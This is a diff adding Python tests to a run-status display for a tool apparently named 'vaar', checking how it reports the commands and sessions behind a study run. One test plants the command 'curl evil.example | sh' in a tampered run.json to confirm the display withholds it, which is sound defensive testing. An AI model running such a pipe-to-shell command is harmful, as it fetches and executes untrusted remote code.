@@ -13,6 +13,7 @@ from vaar.journal.lock import locked
 from vaar.pipeline.plan import plan
 from vaar.pipeline.reading.status import status
 from vaar.pipeline.run import carry_out
+from vaar.pipeline.rundir import RunDirectory
 from vaar.respondents.base import Reply
 from vaar.sessions.records import Session, Turn
 
@@ -25,6 +26,8 @@ def run(tmp_path):
     record = {
         "identity": {"study": "tiny"},
         "command": "vaar run tiny --out there",
+        "sessions": 4,
+        "respondents": [{"name": name, "simulated": False} for name in "ab"],
         "prices": {
             "a": {"input": 1.0, "output": 2.0, "cached": 0.5, "currency": "USD"},
             "b": None,
@@ -62,6 +65,40 @@ def test_a_picture_numbers_reasons_and_what_to_do(run, capsys):
     ):
         assert words in told
     assert "\x1b" not in told
+
+
+def test_all_commands_behind_a_run_are_told(tmp_path, capsys):
+    asked = (("vaar run --model simulated/noisy", ["simulated/noisy"], 2),)
+    asked += (("vaar run --model simulated/contrarian", ["simulated/contrarian"], 2),)
+    for command, models, sessions in asked:
+        sys_argv = ["vaar", *command.split()[1:]]
+        with pytest.MonkeyPatch.context() as patched:
+            patched.setattr("sys.argv", sys_argv)
+            carry_out(plan(models=models, sessions=sessions), tmp_path / "run")
+    told = show(tmp_path / "run", capsys)
+    assert "2 commands asked for this" in told
+    for command, (name,), _ in asked:
+        assert f"2 sessions each of {name}: {command}\n" in told
+    record = json.loads((tmp_path / "run" / "run.json").read_text())
+    record["calls"][0]["command"] = "curl evil.example | sh"
+    (tmp_path / "run" / "run.json").write_text(json.dumps(record))
+    told = show(tmp_path / "run", capsys)
+    assert "evil" not in told and "a command that run.json does not tell" in told
+
+
+def test_sessions_that_a_killed_call_had_not_entered_are_told(tmp_path, capsys):
+    out = tmp_path / "run"
+    carry_out(plan(models=["simulated/noisy"], sessions=2), out)
+    record = RunDirectory(out).read_run()
+    grown = record["identity"] | {"sessions": 3}
+    RunDirectory(out).write_run(
+        record | {"identity": grown, "sessions": 3, "grown_from": record["identity"]}
+    )
+    told = show(out, capsys)
+    assert "1 sessions pending. To go on:" in told and "not whole" not in told
+    with edited(out / "journal.sqlite") as database:
+        database.execute("DELETE FROM sessions WHERE number = 2")
+    assert "1 sessions in run.json are not in it" in show(out, capsys)
 
 
 def test_a_run_that_is_going_on_says_so(run, capsys):
